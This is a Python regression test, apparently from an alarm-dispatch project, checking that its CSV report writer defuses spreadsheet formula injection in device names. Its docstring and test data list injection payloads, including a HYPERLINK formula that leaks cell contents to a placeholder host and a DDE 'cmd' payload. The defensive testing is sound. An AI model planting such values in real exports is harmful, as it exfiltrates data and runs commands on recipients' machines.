"""Attack: spreadsheet formula injection through CSV reports (docs/security.md).

A camera or site name is written by whoever registers or names the device; before, a name such as
``=HYPERLINK("http://x/?"&A1,"open")`` went into the report's cell as it was, and a spreadsheet opening the
report ran it. Now text that would start a formula is written with a leading apostrophe.
"""

from __future__ import annotations

import csv
import io

from alarmhub_dispatch.reports import to_csv


def test_formula_cells_are_neutralised_and_numbers_kept() -> None:
    evil = ['=HYPERLINK("http://x/?"&A1,"open")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "＝1+1"]
    rows = [{"name": v, "count": -3, "ratio": 0.5} for v in evil] + [
        {"name": "Gate 1", "count": 4, "ratio": None}
    ]
    text = to_csv(rows, ["name", "count", "ratio"])
    got = list(csv.DictReader(io.StringIO(text)))
    assert [r["name"] for r in got] == ["'" + v for v in evil] + ["Gate 1"]
    assert [r["count"] for r in got] == ["-3"] * len(evil) + ["4"]  # numbers are numbers
    assert got[-1]["ratio"] == ""
